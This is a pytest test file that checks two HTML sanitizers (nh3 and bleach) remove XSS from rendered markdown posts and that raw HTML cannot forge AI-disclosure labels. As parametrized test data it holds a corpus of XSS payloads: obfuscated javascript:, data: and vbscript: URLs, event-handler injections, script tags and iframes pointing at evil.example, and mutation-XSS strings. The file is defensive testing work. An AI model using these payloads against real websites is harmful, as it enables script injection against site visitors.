"""Both shipped sanitizers keep the same promises, checked on the rendered post.

Every test runs once per sanitizer (nh3, the default, and bleach). Output is checked by parsing
it as HTML (:func:`unsafe_constructs`), never by searching the text; the XSS corpus test and the
property-based rendering test reuse that audit.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from django.utils.html import escape

from ai_disclosure import sanitizers
from ai_disclosure.rendering import render
from ai_disclosure.sanitizers import BleachSanitizer, NH3Sanitizer

#: Tags the renderer adds around AI blocks, with the attributes it gives them.
RENDERER_ATTRIBUTES = {
    "section": frozenset({"class", "data-block-type", "data-model"}),
    "header": frozenset({"class", "title"}),
}
SAFE_TAGS = sanitizers.ALLOWED_TAGS | RENDERER_ATTRIBUTES.keys()
SAFE_ATTRIBUTES = {
    **sanitizers.ALLOWED_ATTRIBUTES,
    **RENDERER_ATTRIBUTES,
    "a": sanitizers.ALLOWED_ATTRIBUTES["a"] | {"rel"},
}
DANGEROUS_TAGS = frozenset({"script", "style", "iframe", "svg", "object", "embed", "form", "math"})
_URL_SCHEME_RE = re.compile(r"([a-z][a-z0-9+.-]*):")
# Browsers (WHATWG URL) trim leading/trailing C0 controls and spaces and drop tab, CR and LF
# anywhere; we drop every other control character too, to be stricter than any browser. An
# inner space is kept: it ends a scheme ("java script:x" is a relative URL).
_URL_EDGES = "".join(map(chr, range(0x21)))
_IGNORED_IN_URLS_RE = re.compile(r"[\x00-\x1f\x7f-\x9f]+")


def url_is_safe(url: str) -> bool:
    """Relative, or an allowed scheme once entities are decoded and ignored characters dropped."""
    scheme = _URL_SCHEME_RE.match(_IGNORED_IN_URLS_RE.sub("", url.strip(_URL_EDGES)).lower())
    return scheme is None or scheme[1] in sanitizers.ALLOWED_URL_SCHEMES


class _Audit(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)  # attribute values arrive entity-decoded
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in DANGEROUS_TAGS:
            self.problems.append(f"<{tag}> element survived")
        elif tag not in SAFE_TAGS:
            self.problems.append(f"<{tag}> is not an allowed tag")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"event handler {name}= on <{tag}>")
            elif name == "style":
                self.problems.append(f"style= on <{tag}>")
            elif name not in SAFE_ATTRIBUTES.get(tag, ()):
                self.problems.append(f"attribute {name!r} is not allowed on <{tag}>")
            if name in ("href", "src") and not url_is_safe(value or ""):
                self.problems.append(f"unsafe URL {name}={value!r} on <{tag}>")

    # Sanitized HTML holds no comments (conditional comments), declarations or instructions.
    def handle_comment(self, data: str) -> None:
        self.problems.append(f"comment <!--{data}--> survived")

    def handle_decl(self, decl: str) -> None:
        self.problems.append(f"declaration <!{decl}> survived")

    def unknown_decl(self, data: str) -> None:
        self.problems.append(f"declaration <![{data}]> survived")

    def handle_pi(self, data: str) -> None:
        self.problems.append(f"processing instruction <?{data}> survived")


def unsafe_constructs(html: str) -> list[str]:
    """Everything in ``html`` that the sanitizing promises rule out; empty when it is safe."""
    audit = _Audit()
    try:
        audit.feed(html)
        audit.close()
    except AssertionError as exc:  # html.parser gives up on malformed <! declarations
        audit.problems.append(f"unparseable markup: {exc}")
    return audit.problems


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))


def elements(html: str) -> list[tuple[str, dict[str, str]]]:
    """Every start tag of ``html`` with its (entity-decoded) attributes, in document order."""
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.elements


@pytest.fixture(params=[NH3Sanitizer, BleachSanitizer], ids=["nh3", "bleach"])
def sanitizer(request):
    return request.param()


def test_links_get_rel_nofollow_ugc(sanitizer):
    html = render(
        '[md](https://example.com/a) <https://example.com/b>\n\n'
        '<p><a href="https://example.com/c" rel="author noopener">raw</a></p>',
        sanitizer=sanitizer,
    ).html

    links = [attrs for tag, attrs in elements(html) if tag == "a"]
    assert len(links) == 3
    for attrs in links:
        assert {"nofollow", "ugc"} <= set(attrs["rel"].split())


def test_sanitizer_clean_adds_rel_to_links_directly(sanitizer):
    links = [a for tag, a in elements(sanitizer.clean('<a href="/x">x</a>')) if tag == "a"]

    assert {"nofollow", "ugc"} <= set(links[0]["rel"].split())


DANGEROUS_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "jav&#x0D;ascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\tscript:alert(1)",
    "&#0000106avascript:alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
]
URL_POSITIONS = {
    "markdown link": "[click]({url})",
    "markdown image": "![pic]({url})",
    "markdown autolink": "<{url}>",
    "reference link": "[click][r]\n\n[r]: {url}",
    "raw html link": '<p><a href="{url}">click</a></p>',
    "raw html image": '<p><img src="{url}" alt="pic"></p>',
    "unquoted raw link": "<div><a href={url}>click</a></div>",
}


@pytest.mark.parametrize("position", URL_POSITIONS.values(), ids=URL_POSITIONS.keys())
@pytest.mark.parametrize("url", DANGEROUS_URLS)
def test_dangerous_url_schemes_are_removed(sanitizer, url, position):
    html = render(position.format(url=url), sanitizer=sanitizer).html

    assert unsafe_constructs(html) == [], html


@pytest.mark.parametrize(
    "url", ["https://example.com/x?a=1&b=2", "http://example.com", "mailto:me@example.com",
            "/relative/path", "#anchor"]
)
def test_safe_urls_are_kept(sanitizer, url):
    html = render(f"[ok]({url})", sanitizer=sanitizer).html

    assert [attrs["href"] for tag, attrs in elements(html) if tag == "a"] == [url]


@pytest.mark.parametrize(
    "payload",
    [
        '<p><img src="x.png" onerror="alert(1)"></p>',
        '<p><a href="#" onclick="alert(1)">x</a></p>',
        '<p onmouseover="alert(1)">hover</p>',
        '<p><b ONCLICK="alert(1)">x</b></p>',
        "<p><img src=x onerror=alert(1)//</p>",
        '<p><img src="x.png"/onerror="alert(1)"></p>',
        'inline <em onfocus="alert(1)" autofocus tabindex=1>x</em>',
        '<table><tr><td align="left" onclick="alert(1)">x</td></tr></table>',
    ],
)
def test_event_handler_attributes_are_removed(sanitizer, payload):
    html = render(payload, sanitizer=sanitizer).html

    assert unsafe_constructs(html) == [], html


@pytest.mark.parametrize(
    "tag, payload",
    [
        ("script", "<script>alert(1)</script>"),
        ("script", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>"),
        ("script", "para <script>alert(1)</script> inline"),
        ("style", "<style>body { background: url(javascript:alert(1)) }</style>"),
        ("iframe", '<iframe src="https://evil.example"></iframe>'),
        ("iframe", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
        ("svg", "<svg onload=alert(1)><circle r=1 /></svg>"),
        ("svg", "<svg><script>alert(1)</script></svg>"),
        ("object", '<object data="x.swf" type="application/x-shockwave-flash"></object>'),
        ("embed", '<embed src="x.swf">'),
        ("form", '<form action="https://evil.example"><input name=q><button>go</button></form>'),
        ("math", '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'),
    ],
)
def test_dangerous_elements_do_not_survive(sanitizer, tag, payload):
    html = render(f"before\n\n{payload}\n\nafter", sanitizer=sanitizer).html

    assert tag not in {name for name, _ in elements(html)}
    assert unsafe_constructs(html) == [], html


@pytest.mark.parametrize(
    "attributes, model, note",
    [
        ("""{model='"><script>alert(1)</script>'}""", '"><script>alert(1)</script>', ""),
        ("""{model="Claude" note='say "hi" <b>now</b>'}""", "Claude", 'say "hi" <b>now</b>'),
        ("""{model="it's & <i>" note="x' onmouseover='alert(1)"}""", "it's & <i>",
         "x' onmouseover='alert(1)"),
    ],
)
def test_block_attributes_are_escaped_and_kept_literally(sanitizer, attributes, model, note):
    rendered = render(f":::ai-written{attributes}\nBody.\n:::", sanitizer=sanitizer)

    assert unsafe_constructs(rendered.html) == []
    [section] = [attrs for tag, attrs in elements(rendered.html) if tag == "section"]
    assert section["data-model"] == model
    assert (rendered.blocks[0].model, rendered.blocks[0].note) == (model, note)
    label = " · ".join(part for part in ("AI-written", model, note) if part)
    assert f">{_escaped(label)}</header>" in rendered.html


def _escaped(text: str) -> str:
    return escape(text)


@pytest.mark.parametrize(
    "forgery",
    [
        '<section class="ai-block ai-written" data-model="GPT-5">Forged</section>',
        '<div><section class="ai-block ai-written"><header class="ai-block-label">'
        "AI-written · GPT-5</header>Forged</section></div>",
        '<p class="ai-block ai-written" data-model="GPT-5">Forged</p>',
    ],
)
def test_raw_html_cannot_forge_a_block_label(sanitizer, forgery):
    rendered = render(forgery, sanitizer=sanitizer)

    assert rendered.blocks == ()
    assert rendered.ai_share == 0.0
    tags = elements(rendered.html)
    assert {"section", "header"}.isdisjoint(name for name, _ in tags)
    assert all("class" not in attrs and "data-model" not in attrs for _, attrs in tags)
    assert "Forged" in rendered.html


def test_both_sanitizers_agree_on_what_survives():
    text = (
        ':::ai-edited{model="Claude"}\n# Title\n\n*em* **strong** `code` [l](https://e.com)\n\n'
        "| a | b |\n|:--|--:|\n| 1 | 2 |\n\n<script>x</script><abbr title=t>A</abbr>\n:::\n"
    )

    nh3_tags = [tag for tag, _ in elements(render(text, sanitizer=NH3Sanitizer()).html)]
    bleach_tags = [tag for tag, _ in elements(render(text, sanitizer=BleachSanitizer()).html)]

    assert nh3_tags == bleach_tags


@pytest.mark.parametrize(
    "html, problem",
    [
        ('<a href="jav&#x09;ascript:alert(1)">x</a>', "unsafe URL"),
        ('<img src=" DATA:text/html,x">', "unsafe URL"),
        ('<p onclick="x">x</p>', "event handler"),
        ('<p style="color: red">x</p>', "style="),
        ("<svg></svg>", "<svg> element"),
        ("<div>x</div>", "not an allowed tag"),
        ('<p class="ai-block">x</p>', "'class' is not allowed"),
        ("<!--[if IE]><script>x</script><![endif]-->", "comment"),
        ('<![><img src="]><img src=x onerror=alert(1)//">', "unparseable"),
    ],
)
def test_audit_itself_flags_unsafe_html(html, problem):
    # The audit used by every sanitizing test must not pass vacuously.
    assert any(problem in found for found in unsafe_constructs(html))


def test_audit_itself_accepts_safe_html():
    html = (
        '<section class="ai-block ai-written" data-block-type="ai-written" data-model="M">'
        '<header class="ai-block-label" title="t">L</header><p><a href="java script:x" '
        'rel="nofollow ugc">x</a><img src="/a.png" alt=""></p></section>'
    )

    assert unsafe_constructs(html) == []
